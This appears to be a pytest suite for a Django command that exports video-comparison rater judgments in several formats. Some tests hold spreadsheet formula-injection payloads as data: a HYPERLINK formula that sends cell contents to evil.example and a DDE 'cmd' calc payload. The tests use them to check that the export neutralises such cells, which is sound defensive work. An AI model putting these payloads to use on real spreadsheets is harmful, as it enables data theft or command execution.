"""`export_results`: every format, hashed rater ids, QC rows, the summary, and clear refusals."""

import csv
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command

from analysis import export, frames, queries
from analysis.summary import ablation_table, summarise
from raters.models import Comparison, Judgment, Rater
from raters.spreadsheets import FORMULA_STARTS
from tests.analysis.studies import build_study

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def study():
    return build_study(prompts=2, slug="ablation")


def _export(tmp_path, fmt, *extra, name=None):
    out = tmp_path / (name or f"judgments.{fmt.replace('arena-json', 'json')}")
    call_command(
        "export_results", "--study", "ablation", "--format", fmt, "--output", str(out), *extra
    )
    return out


def test_csv_has_one_row_per_judgment_with_hashed_raters(tmp_path, study):
    rows = list(csv.DictReader(_export(tmp_path, "csv").open()))
    judgments = Judgment.objects.select_related("assignment").order_by("id")

    assert len(rows) == judgments.count() == 20
    first, judgment = rows[0], judgments[0]
    assert first["left"] == ("a" if judgment.assignment.left_is_a else "b")
    # one boolean column per reason, no joined list
    assert first["quality_reason_pixel_sharpness"] == "True"
    assert first["quality_reason_motion_smoothness"] == "False"
    assert first["faithfulness_reason_spatial_alignment"] == "True"
    assert "quality_reasons" not in first
    assert first["kind"] == "real" and first["prompt"]
    comparison = judgment.assignment.comparison
    assert first["prompt_id"] == str(comparison.prompt_id)
    assert first["video_a_id"] == str(comparison.video_a_id)
    assert first["seed_a"] == str(comparison.video_a.job.seed)
    assert first["seed_b"] == str(comparison.video_b.job.seed)
    assert {"watch_ms", "replays", "seeks", "is_flagged", "rater_is_flagged"} <= set(first)
    # raters are pseudonyms: stable per person, not their user id
    user_id = str(judgment.assignment.rater_id)
    assert len(first["rater"]) == 16 and first["rater"] != user_id
    assert len({r["rater"] for r in rows}) == 5
    assert "rater_external_id" not in first


def test_include_rater_ids_gives_user_and_external_ids(tmp_path, study):
    rows = list(csv.DictReader(_export(tmp_path, "csv", "--include-rater-ids").open()))
    judgment = Judgment.objects.select_related("assignment").order_by("id").first()
    assert rows[0]["rater"] == str(judgment.assignment.rater_id)
    assert "rater_external_id" in rows[0]


def test_every_format_round_trips_to_the_same_ablation_table(tmp_path, study):
    expected = ablation_table(summarise(queries.judgment_frame(study=study), rounds=100, seed=3))
    for fmt in ("csv", "jsonl", "parquet"):
        path = _export(tmp_path, fmt)
        frame = frames.prepare(export.read_export(path))
        table = ablation_table(summarise(frame, rounds=100, seed=3))
        pd.testing.assert_frame_equal(table, expected, check_dtype=False)


def test_parquet_keeps_types(tmp_path, study):
    table = pq.read_table(_export(tmp_path, "parquet"))
    assert table.num_rows == 20
    assert str(table.schema.field("quality_reasons").type) == "list<element: string>"
    assert str(table.schema.field("judged_at").type) == "timestamp[us, tz=UTC]"
    assert str(table.schema.field("is_flagged").type) == "bool"


@pytest.mark.parametrize("question", ["quality", "faithfulness"])
def test_arena_json_has_one_question_with_models_in_the_order_shown(tmp_path, study, question):
    battles = json.loads(_export(tmp_path, "arena-json", "--question", question).read_text())
    judgments = {
        j.pk: j for j in Judgment.objects.select_related("assignment__comparison__pair__variant_a")
    }

    assert len(battles) == 20
    assert {b["question"] for b in battles} == {question}
    lefts = set()
    for battle in battles:
        judgment = judgments[battle["judgment_id"]]
        left_is_a = judgment.assignment.left_is_a
        lefts.add(left_is_a)
        design = f"{judgment.assignment.comparison.pair.variant_a.slug}@v1"
        # model_a is the variant on the left, whichever side of the pair that was
        assert (battle["model_a"] == design) == left_is_a
        assert battle["left"] == ("a" if left_is_a else "b")
        answer = getattr(judgment, question)
        expected = {"a": "model_a" if left_is_a else "model_b",
                    "b": "model_b" if left_is_a else "model_a", "tie": "tie"}[answer]  # fmt: skip
        assert battle["winner"] == expected
        assert battle["kind"] == "real"
        assert battle["is_flagged"] == judgment.is_flagged
        assert "winner_faithfulness" not in battle
    assert lefts == {True, False}


def test_arena_json_leaves_qc_out_unless_asked(tmp_path, study):
    comparison = Comparison.objects.filter(study=study).first()
    Comparison.objects.filter(pk=comparison.pk).update(kind=Comparison.Kind.GOLD)
    assert len(json.loads(_export(tmp_path, "arena-json").read_text())) == 15
    battles = json.loads(
        _export(tmp_path, "arena-json", "--include-qc", name="qc.json").read_text()
    )
    assert sorted(b["kind"] for b in battles).count("gold") == 5 and len(battles) == 20


def test_arena_json_refuses_an_unknown_question(tmp_path, study):
    with pytest.raises(CommandError, match="Unknown question 'speed'"):
        _export(tmp_path, "arena-json", "--question", "speed")


def test_csv_and_parquet_hold_real_comparisons_unless_qc_is_asked_for(tmp_path, study):
    gold, mirror = Comparison.objects.filter(study=study).order_by("id")[:2]
    Comparison.objects.filter(pk=gold.pk).update(kind=Comparison.Kind.GOLD, gold_question="")
    Comparison.objects.filter(pk=mirror.pk).update(kind=Comparison.Kind.MIRROR)

    real = pd.read_csv(_export(tmp_path, "csv"))
    assert set(real["kind"]) == {"real"} and len(real) == 10
    assert pq.read_table(_export(tmp_path, "parquet")).num_rows == 10

    every = pd.read_csv(_export(tmp_path, "csv", "--include-qc", name="qc.csv"))
    assert every["kind"].value_counts().to_dict() == {"real": 10, "gold": 5, "mirror": 5}
    # a gold comparison with a blank question checks quality; other rows say "none"
    assert set(every.loc[every["kind"] == "gold", "gold_question"]) == {"quality"}
    assert set(every.loc[every["kind"] != "gold", "gold_question"]) == {"none"}


def test_csv_columns_keep_their_dtypes_from_study_to_study(tmp_path, study):
    # given one study without any QC and one whose gold and mirror answers are recorded
    plain = pd.read_csv(_export(tmp_path, "csv", "--include-qc", name="plain.csv"))
    gold, mirror = Comparison.objects.filter(study=study).order_by("id")[:2]
    Comparison.objects.filter(pk=gold.pk).update(kind=Comparison.Kind.GOLD, gold_question="quality")
    Comparison.objects.filter(pk=mirror.pk).update(kind=Comparison.Kind.MIRROR)
    Judgment.objects.filter(assignment__comparison=gold).update(gold_correct=True)
    Judgment.objects.filter(assignment__comparison=mirror).update(mirror_consistent=False)

    # when both are read with plain pandas
    checked = pd.read_csv(_export(tmp_path, "csv", "--include-qc", name="checked.csv"))

    # then every column has the same dtype in both
    assert list(plain.columns) == list(checked.columns)
    assert plain.dtypes.to_dict() == checked.dtypes.to_dict()
    assert checked["gold_correct"].dtype == "float64" and checked["gold_correct"].max() == 1.0
    assert checked["quality_reason_pixel_sharpness"].dtype == "bool"


def test_parquet_keeps_reasons_as_a_list_and_as_booleans(tmp_path, study):
    table = pq.read_table(_export(tmp_path, "parquet")).to_pandas()
    assert list(table.loc[0, "quality_reasons"]) == ["pixel_sharpness"]
    assert table["quality_reason_pixel_sharpness"].all()
    assert not table["quality_reason_amount_of_motion"].any()
    assert table["seed_a"].dtype == "int64"


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_formulas_in_prompts_and_crowd_ids(tmp_path, study, start):
    # given a prompt and a crowd worker's PID that a spreadsheet would run as formulas
    comparison = Comparison.objects.filter(study=study).order_by("id").first()
    comparison.prompt.text = start + "1+cmd|' /C calc'!A0"
    comparison.prompt.save()
    judgment = Judgment.objects.filter(assignment__comparison=comparison).first()
    Rater.objects.update_or_create(
        user=judgment.assignment.rater, defaults={"external_id": start + HOSTILE[1:]}
    )

    # when exported with rater ids
    path = _export(tmp_path, "csv", "--include-rater-ids")
    rows = list(csv.DictReader(path.open(newline="")))

    # then no cell starts with a formula character: each such cell is quoted with '
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    prompts = {r["prompt"] for r in rows}
    assert "'" + start + "1+cmd|' /C calc'!A0" in prompts
    assert "'" + start + HOSTILE[1:] in {r["rater_external_id"] for r in rows}
    # and reading the export back restores the original text
    back = export.read_export(path)
    assert start + "1+cmd|' /C calc'!A0" in set(back["prompt"])


def test_raw_csv_keeps_formula_cells_as_they_are(tmp_path, study):
    comparison = Comparison.objects.filter(study=study).order_by("id").first()
    comparison.prompt.text = HOSTILE
    comparison.prompt.save()
    rows = list(csv.DictReader(_export(tmp_path, "csv", "--raw").open(newline="")))
    assert HOSTILE in {r["prompt"] for r in rows}


def test_simulated_judgments_only_on_request(tmp_path, study):
    Judgment.objects.filter(pk=Judgment.objects.order_by("id").first().pk).update(is_simulated=True)
    assert len(list(csv.DictReader(_export(tmp_path, "csv").open()))) == 19
    path = _export(tmp_path, "csv", "--include-simulated", name="all.csv")
    assert len(list(csv.DictReader(path.open()))) == 20


def test_plain_summary_is_the_headline_with_the_judgment_share_labelled(tmp_path, study):
    path = _export(tmp_path, "csv")
    summary = pd.read_csv(export.summary_path(path))
    row = summary.set_index("variant_b").loc["direct-t2v@v1"]
    assert row["comparisons"] == 2 and row["judgments"] == 10
    # quality: prompt 0 votes aaaab, prompt 1 abbbb → one majority of two, 5 A of 10 votes
    assert row["quality_win_rate"] == pytest.approx(0.5)
    assert row["quality_judgment_share_ties_half"] == pytest.approx(0.5)
    # faithfulness: aaabb on both prompts → both majorities, but 6 of 10 votes
    assert row["faithfulness_win_rate"] == pytest.approx(1.0)
    assert row["faithfulness_judgment_share_ties_half"] == pytest.approx(0.6)
    assert row["quality_wilson_lo"] < 0.5 < row["quality_wilson_hi"]
    # the headline agrees with the dashboard's definition
    table = ablation_table(summarise(queries.judgment_frame(study=study), rounds=0))
    headline = table.set_index("variant_b").loc["direct-t2v@v1"]
    assert headline["faithfulness_win_rate"] == row["faithfulness_win_rate"]


def test_each_output_gets_its_own_summary(tmp_path, study):
    csv_path = _export(tmp_path, "csv", name="judgments.csv")
    parquet_path = _export(tmp_path, "parquet", name="judgments.parquet")
    assert export.summary_path(csv_path) != export.summary_path(parquet_path)
    assert export.summary_path(csv_path).exists() and export.summary_path(parquet_path).exists()


def test_full_summary_is_the_ablation_table_with_agreement(tmp_path, study):
    path = _export(tmp_path, "csv", "--summary", "--rounds", "100")
    summary = pd.read_csv(export.summary_path(path))
    ratings = pd.read_csv(export.ratings_path(path))
    assert set(ratings["question"]) == {"quality", "faithfulness"}
    assert {"strength", "strength_lo", "strength_hi", "rank"} <= set(ratings)
    assert list(summary["study"]) == ["ablation", "ablation"]
    row = summary.set_index("variant_b").loc["direct-t2v@v1"]
    assert row["quality_win_rate"] == pytest.approx(0.5)  # one majority of two comparisons
    assert row["quality_lo"] <= 0.5 <= row["quality_hi"]
    assert row["judgments_unflagged"] == 8
    assert {"quality_study_kappa", "faithfulness_study_alpha", "quality_kappa"} <= set(summary)


def test_export_without_study_covers_all_studies(tmp_path, study):
    build_study(prompts=1, slug="second")
    out = tmp_path / "all.jsonl"
    call_command("export_results", "--format", "jsonl", "--output", str(out))
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert {r["study"] for r in rows} == {"ablation", "second"}
    assert len(rows) == 30


def test_refuses_unknown_study_and_format(tmp_path, study):
    with pytest.raises(CommandError, match="No study with slug 'nope'"):
        call_command("export_results", "--study", "nope", "--output", str(tmp_path / "x.csv"))
    with pytest.raises(CommandError, match="Unknown format 'xml'"):
        call_command("export_results", "--format", "xml", "--output", str(tmp_path / "x.xml"))
    assert not (tmp_path / "x.xml").exists()


def test_unknown_format_exits_non_zero_from_the_shell(tmp_path):
    result = subprocess.run(
        [sys.executable, "manage.py", "export_results", "--format", "xml", "--output",
         str(tmp_path / "x.xml")],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode != 0
    assert "Unknown format 'xml'" in result.stderr


def test_progress_bar_only_when_asked_or_on_a_terminal(tmp_path, capsys):
    rows = [(1, "a"), (2, "b")]
    export.write_judgments(rows, columns=("id", "quality"), path=tmp_path / "a.csv", fmt="csv")
    assert capsys.readouterr().err == ""  # stderr is not a terminal under pytest
    export.write_judgments(
        rows, columns=("id", "quality"), path=tmp_path / "b.csv", fmt="csv", total=2, progress=True
    )
    assert "2/2" in capsys.readouterr().err


@pytest.mark.services
def test_postgresql_streams_every_format(tmp_path, study):
    # PostgreSQL streams through a server-side cursor; chunk smaller than the study on purpose
    query = queries.export_query(study=study, chunk_size=3)
    assert query.count == 20
    n = export.write_judgments(
        query.rows, columns=query.columns, path=tmp_path / "j.parquet", fmt="parquet"
    )
    assert n == 20 and pq.read_table(tmp_path / "j.parquet").num_rows == 20
    path = _export(tmp_path, "csv", "--summary", "--rounds", "50")
    assert len(pd.read_csv(export.summary_path(path))) == 2


def test_a_failed_export_leaves_no_file(tmp_path):
    def rows():
        yield (1, "a")
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        export.write_judgments(
            rows(), columns=("id", "quality"), path=tmp_path / "j.csv", fmt="csv"
        )
    assert list(tmp_path.iterdir()) == []


@pytest.mark.services
@pytest.mark.parametrize("extra", [(), ("--include-qc", "--include-rater-ids"), ("--raw",)])
def test_postgresql_writes_the_same_csv_as_the_python_writer(tmp_path, study, extra):
    # given QC rows, a hostile prompt and crowd id, and the options that change columns
    gold, mirror = Comparison.objects.filter(study=study).order_by("id")[:2]
    Comparison.objects.filter(pk=gold.pk).update(kind=Comparison.Kind.GOLD, gold_question="")
    Comparison.objects.filter(pk=mirror.pk).update(kind=Comparison.Kind.MIRROR)
    Judgment.objects.filter(assignment__comparison=gold).update(gold_correct=True)
    mirror.prompt.text = HOSTILE
    mirror.prompt.save()
    judgment = Judgment.objects.filter(assignment__comparison=gold).first()
    Rater.objects.update_or_create(
        user=judgment.assignment.rater, defaults={"external_id": "@SUM(A1)"}
    )
    include = dict(
        include_qc="--include-qc" in extra, include_rater_ids="--include-rater-ids" in extra
    )

    # when the database formats the CSV, and when Python does
    copied = queries.export_csv_copy(study=study, raw="--raw" in extra, **include)
    by_copy = tmp_path / "copy.csv"
    written = export.write_csv_blocks(copied.blocks, columns=copied.columns, path=by_copy)
    query = queries.export_query(study=study, **include)
    by_python = tmp_path / "python.csv"
    export.write_judgments(
        query.rows, columns=query.columns, path=by_python, fmt="csv", raw="--raw" in extra
    )

    # then the files hold the same table
    a, b = pd.read_csv(by_copy), pd.read_csv(by_python)
    assert len(a) == written == copied.blocks.rows == len(b) > 0
    pd.testing.assert_frame_equal(a, b)
    # and the command takes the database's path on PostgreSQL
    out = _export(tmp_path, "csv", *extra, name="command.csv")
    pd.testing.assert_frame_equal(pd.read_csv(out), b)


@pytest.mark.services
def test_pair_counts_group_on_every_core_of_postgresql_and_put_the_setting_back(study):
    # the plain summary's per-comparison grouping runs with cheap parallel hand-over for its
    # one statement; the counts are the hand counts above and the session's setting is as before
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def setting() -> str:
        with connection.cursor() as cursor:
            cursor.execute("SHOW parallel_tuple_cost")
            return cursor.fetchone()[0]

    before = setting()
    with CaptureQueriesContext(connection) as captured:
        counts = queries.pair_counts(study=study)
    row = counts.set_index("variant_b").loc["direct-t2v@v1"]
    assert (row["comparisons"], row["n"]) == (2, 10)
    assert (row["quality_majority_a"], row["faithfulness_majority_a"]) == (1, 2)
    statements = [query["sql"] for query in captured.captured_queries]
    grouped = next(k for k, sql in enumerate(statements) if "GROUP BY pair" in sql)
    assert "'parallel_tuple_cost', '0.01'" in statements[grouped - 1]
    assert setting() == before != "0.01"
